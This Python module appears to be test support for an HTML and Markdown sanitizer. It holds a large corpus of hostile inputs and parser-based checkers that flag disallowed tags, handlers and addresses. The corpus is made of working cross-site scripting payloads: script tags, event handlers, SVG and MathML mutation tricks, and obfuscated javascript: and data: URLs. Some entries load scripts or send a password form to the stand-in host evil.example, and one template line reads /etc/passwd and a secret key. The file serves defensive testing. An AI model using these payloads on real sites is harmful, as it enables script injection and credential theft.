"""Texts that try to be more than text: a corpus, and a check of what becomes of them.

The check reads the HTML with a parser other than the one that cleaned it, so that one mistake
is not made twice.
"""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from urllib.parse import unquote

NUL, TAB, NEWLINE, SHY = "\x00", "\t", "\n", "\xad"
RLO, LRI, PDI, ZWSP, BOM = "\u202e", "\u2066", "\u2069", "\u200b", "\ufeff"
MARK = "harmless-mark"  # what the tests look for, to know that a text was shown at all

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script >alert(1)</script >",
    "< script>alert(1)</ script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<script type=module>import 'https://evil.example'</script>",
    f"<scr{NUL}ipt>alert(1)</scr{NUL}ipt>",
    f"<{NUL}script>alert(1)</script>",
    f"<scr{ZWSP}ipt>alert(1)</scr{ZWSP}ipt>",
    f"{BOM}<script>alert(1)</script>",
    f"{RLO}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)",
    "&#0000060script&#0000062alert(1)",
    "\\<script>alert(1)</script>",
    "\\\\<script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "${alert(1)} <%= alert(1) %> #{alert(1)}",
)
HANDLERS = tuple(
    f"<{tag} {handler}>{MARK}"
    for tag, handler in (
        ("img", "src=x onerror=alert(1)"),
        ("img", "src='x' OnErRoR='alert(1)'"),
        ("img", "src=x onerror\n=\nalert(1)"),
        ("img/src=x", "/onerror=alert(1)"),
        ("img", "src=x:alert(alt) onerror=eval(src) alt=0"),
        ("img", "srcset=x onerror=alert(1)"),
        ("IMG", '"""><SCRIPT>alert(1)</SCRIPT>"'),
        ("image", "src=x onerror=alert(1)"),
        ("body", "onload=alert(1)"),
        ("body", "background=javascript:alert(1)"),
        ("p", "onclick=alert(1)"),
        ("p", "onmouseover='alert(1)' style='position:fixed;inset:0'"),
        ("a", "onclick=alert(1) href=https://example.org/"),
        ("a", "href=x onfocus=alert(1) autofocus tabindex=1"),
        ("div", "onpointerenter=alert(1)"),
        ("div", "contenteditable onblur=alert(1)"),
        ("details", "open ontoggle=alert(1)"),
        ("video", "src=x onerror=alert(1)"),
        ("video", "><source onerror=alert(1)"),
        ("audio", "src onloadstart=alert(1)"),
        ("input", "onfocus=alert(1) autofocus"),
        ("select", "onfocus=alert(1) autofocus"),
        ("textarea", "onfocus=alert(1) autofocus"),
        ("keygen", "onfocus=alert(1) autofocus"),
        ("button", "popovertarget=x onbeforetoggle=alert(1)"),
        ("marquee", "onstart=alert(1)"),
        ("table", "background=javascript:alert(1)"),
        ("td", "onanimationend=alert(1) style=animation-name:x"),
        ("h2", "id=main onclick=alert(1)"),
        ("code", "onclick=alert(1) class=htmx-request"),
        ("p", "hx-get=/accounts/leave/ hx-trigger=load"),
        ("p", "data-hx-post=/api/ data-hx-trigger=load"),
        ("blink", "x onclick=alert(1)"),
        ("x", "onclick=alert(1) tabindex=0"),
    )
)
ELEMENTS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<object><param name=movie value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x></applet>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='w\\69 dth: e\\78 pression(alert(1))'>x</p>",
    "<p style=-moz-binding:url(//evil.example/x.xml)>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Set-Cookie content='sessionid=x'>",
    "<meta name=referrer content=unsafe-url>",
    "<base href=//evil.example/>",
    "<base target=_parent>",
    "<form action=//evil.example><input name=password type=password></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1)>",
    "<dialog open>Your session is over</dialog>",
    "<slot name=x></slot><portal src=//evil.example>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=x name=getElementById><form name=body>",
    "<a id=x><a id=x name=y href=z>clobber</a>",
    "<input type=image src=//evil.example>",
    "<xml src=//evil.example></xml>",
    "<bgsound src=//evil.example>",
    "<layer src=//evil.example></layer>",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
    "<title><script>alert(1)</script></title>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><script>alert(1)</script></noembed>",
    "<listing>&lt;script&gt;alert(1)</listing>",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><p id='</style><img onerror=x>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=x>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p><svg><title><p title='</title><img src=x onerror=alert(1)>'>",
    "<table><td><table><script>alert(1)</script></table>",
    "<table><a href=javascript:alert(1)><tr><td>x",
    "<b><p><b><p><script>alert(1)</script>",
    "<a href='`javascript:alert(1)`'>``onmouseover=alert(1)",
    '<img alt="``onerror=alert(1)" src=x>',
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- <!-- --> <script>alert(1)</script> -->",
    "<!--\n\n<script>alert(1)</script>\n\n-->",
    "<comment><img src='</comment><img src=x onerror=alert(1)>'></comment>",
    "</p><script>alert(1)</script>",
    "</article></main></body></html><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></style></script><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "]]></summary><script>alert(1)</script>",
    '<a href="https://example.org" title=\'"><script>alert(1)</script>\'>x</a>',
    "<p>" * 300 + MARK,
    "</p>" * 300 + MARK,
)
_TARGETS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "java%0Ascript:alert(1)",
    "javascript%3Aalert(1)",
    "\\javascript:alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    f"java{TAB}script:alert(1)",
    f"java{NUL}script:alert(1)",
    f"java{SHY}script:alert(1)",
    f"java{ZWSP}script:alert(1)",
    f"{BOM}javascript:alert(1)",
    f"{RLO}javascript:alert(1)",
    f"{LRI}javascript:alert(1){PDI}",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\xa0javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javascript:alert(1)//https://example.org",
    "jаvascript:alert(1)",  # with a Cyrillic letter
    "ｊavascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA&colon;text/html,x",
    "blob:https://example.org/1",
    "filesystem:https://example.org/temporary/x",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "tel:+1900",
    "sms:+1900",
    "intent://x#Intent;scheme=x;end",
    "ms-word:ofe|u|https://evil.example/x",
    "view-source:https://example.org",
    "about:blank",
    "chrome://settings",
    "feed:javascript:alert(1)",
    "jar:https://evil.example!/x",
    "x:y",
    ":javascript:alert(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https:///evil.example",
    "https://example.org@evil.example/",
    "https://example.org%00.evil.example/",
    f"https://example.org/{RLO}gpj.exe",
    "https://xn--80ak6aa92e.example/",
    "https://аррle.example/",
    "https://[::1]/",
    "http://0x7f000001/",
    "https://example.org/'onclick='alert(1)",
    'https://example.org/"onclick="alert(1)',
    "https://example.org/`onclick=`",
    "mailto:a@example.org?bcc=everybody@evil.example&body=<script>",
    "mailto:a@example.org%0ABcc:x@evil.example",
    "mailto:javascript:alert(1)",
    "/accounts/leave/",
    "?delete=1",
    "#main",
    "",
)
_FORMS = ("[x]({0})", "[x](<{0}>)", "<{0}>", "![x]({0})", "[x][r]\n\n[r]: {0}", "{0}")
LINKS = tuple(form.format(target) for target, form in product(_TARGETS, _FORMS) if target)
MARKDOWN = (
    "[x](https://example.org 'title\" onmouseover=\"alert(1)')",
    '[x](https://example.org "</a><script>alert(1)</script>")',
    "[<script>alert(1)</script>](https://example.org)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[a](javascript:alert(1) "x")[b](https://example.org)',
    "[x](javascript:alert\\(1\\))",
    "[x]( javascript:alert(1) )",
    "[x](\njavascript:alert(1)\n)",
    "[x]()",
    "[]()",
    "[x](<>)",
    "[x](<java\nscript:alert(1)>)",
    "[ ]: javascript:alert(1)\n\n[ ]",
    "[__proto__]: https://example.org\n\n[__proto__]",
    "[constructor]",
    "[a]: https://example.org\n[a]: javascript:alert(1)\n\n[a]",
    "[ẞ]: javascript:alert(1)\n\n[SS]",
    "![x](https://evil.example/pixel.gif)",
    "![x](https://evil.example/p.gif 'x\" onerror=\"alert(1)')",
    "![x][r]\n\n[r]: https://evil.example/p.gif",
    "![<img src=x onerror=alert(1)>](https://evil.example/p.gif)",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| a |\n|:-:|\n| <td style=color:red onclick=alert(1)> |",
    "|" * 400 + "\n" + "|-" * 400 + "|\n" + "|x" * 400,
    "```html\n<script>alert(1)</script>\n```",
    '```html" onclick="alert(1)\n<p>\n```',
    "```<script>alert(1)</script>\nx\n```",
    "~~~javascript:alert(1)\nx",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``` `<img src=x onerror=alert(1)>` ```",
    "# <script>alert(1)</script> {#x onclick=alert(1)}",
    "<h1>x</h1>\n===\n---",
    "> <script>\n> alert(1)\n> </script>",
    "- <script>\n\n  alert(1)\n- </script>",
    "1. x\n99999999999. <iframe src=//evil.example>",
    "a<br onclick=alert(1)>b  \n<hr onclick=alert(1)>",
    "**<b onclick=alert(1)>**_<i>_",
    "http://example.org/<script>alert(1)</script>",
    'https://example.org/"onmouseover="alert(1)',
    "www.example.org/'><img src=x onerror=alert(1)>",
    'user@example.org"><script>alert(1)</script>',
    '<https://example.org/"onclick=alert(1)>',
    "<user@example.org?subject=<script>>",
    f"{RLO}gro.elpmaxe//:sptth",
    f"{NUL}{MARK}{NUL}",
    "\ud7ff\ue000\ufdd0\uffff\U0010ffff",
    "&#0;&#xD800;&#x110000;&#xFFFFFFFFFFFF;&nosuch;",
    "Z̸̧̢̛͇̣̟" * 100,
)
LONG = {
    "brackets": "[",
    "images": "![",
    "links": "[x](",
    "stars": "*a ",
    "stars and lines": "*a_ ",
    "strong": "**a **",
    "ticks": "`a``",
    "quotes": "> ",
    "lists": "- ",
    "less than": "<",
    "less than and letter": "<a ",
    "comments": "<!-- ",
    "instructions": "<?x ",
    "entities": "&#x26;",
    "ampersands": "&a",
    "backslashes": "\\",
    "addresses": "http://a.b ",
    "at signs": "a@b.cd",
    "schemes": "http://",
    "dots": "www.",
    "colons": "a:",
    "pipes": "|a",
    "definitions": "[a]: x\n",
    "open definitions": "[a\n",
    "headings": "# a\n",
    "rules": "---\n",
    "nested": "[a](b)" + "]",
    "one word": "a",
    "lines": "a\n",
    "spaces": " ",
    "invisible": ZWSP,
    "emoji": "👩‍👩‍👧",
}
CORPUS = (*SCRIPTS, *HANDLERS, *ELEMENTS, *MUTATIONS, *LINKS, *MARKDOWN)

_PLAIN = (
    "blockquote br code em h2 h3 h4 hr li ol p pre strong table tbody td th thead tr ul".split()  # noqa: SIM905
)
ALLOWED = {"a": {"href", "title", "rel"}} | {tag: set() for tag in _PLAIN}
SCHEMES = ("http://", "https://", "mailto:")
_VOID = {"br", "hr"}


class Reader(HTMLParser):
    """Notes what in a piece of HTML is more than the allow-list; `text` is what people see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(f"<{tag}>")
        names = [name for name, _value in attrs]
        extra = set(names) - ALLOWED.get(tag, set())
        if extra or len(names) != len(set(names)):
            self.wrong.append(f"<{tag}> with {sorted(names)}")
        self.wrong += [f"leads to {value}" for name, value in attrs if _is_bad(name, value or "")]
        if tag not in _VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}> that nothing opened")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"a comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"a declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"an instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"a declaration {data}")


def _is_bad(name: str, value: str) -> bool:
    """Return whether an attribute is an address that leads anywhere but to a named site, to a
    path of this one, or to a place on the page.
    """
    if name != "href":
        return False
    seen = "".join(char for char in unquote(value) if char.isprintable() and not char.isspace())
    return _leads_astray(seen) or _leads_astray(value)


def _leads_astray(address: str) -> bool:
    if address.startswith("/"):
        return address[1:2] in ("/", "\\")
    return not address.lower().startswith((*SCHEMES, "#"))


def wrong_in(html: str) -> list[str]:
    """Return what of a piece of HTML is not on the allow-list, or is not well formed."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    if reader.open:
        reader.wrong.append(f"left open: {reader.open}")
    return reader.wrong + (["a null character"] if NUL in html else [])


def seen_in(html: str) -> str:
    """Return the text of a piece of HTML as people see it."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.text


def sample(step: int = 5) -> str:
    """Return a part of the corpus as one text that a database takes."""
    texts = (text for text in CORPUS[::step] if NUL not in text and len(text) < 400)
    return "\n\n".join((MARK, *texts))


def hostile_texts() -> Iterator[tuple[str, str]]:
    """Give each text of the corpus with a name that says which it is."""
    for number, text in enumerate(CORPUS):
        yield f"{number}", text


class PageReader(HTMLParser):
    """Notes what on a whole page no template of the portal writes: handlers, styles, frames,
    scripts from elsewhere, addresses that run or lead astray.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in {"iframe", "object", "embed", "base", "math", "style", "video", "marquee"}:
            self.wrong.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.wrong.append(f"<script {given}>")
        if tag == "meta" and "http-equiv" in given:
            self.wrong.append(f"<meta {given}>")
        self.wrong += [f"<{tag} {name}>" for name in given if name.startswith("on")]
        self.wrong += [
            f"<{tag} {name}={given[name]}>"
            for name in ("href", "src", "action", "formaction", "srcset", "data", "xlink:href")
            if _is_foreign(given.get(name, "")) and given.get("rel") != "icon"
        ]

    def handle_data(self, data: str) -> None:
        self.text += data


def _is_foreign(address: str) -> bool:
    seen = "".join(char for char in unquote(address) if char.isprintable() and not char.isspace())
    if seen.startswith(("//", "/\\")):
        return True
    scheme, colon, _rest = seen.partition(":")
    is_scheme = bool(colon) and not set(scheme) & set("/?#")
    return is_scheme and scheme.lower() not in {"http", "https", "mailto"}


def page_of(html: str) -> PageReader:
    """Return what a whole page holds: `wrong`, and `text` as people see it."""
    reader = PageReader()
    reader.feed(html)
    reader.close()
    return reader
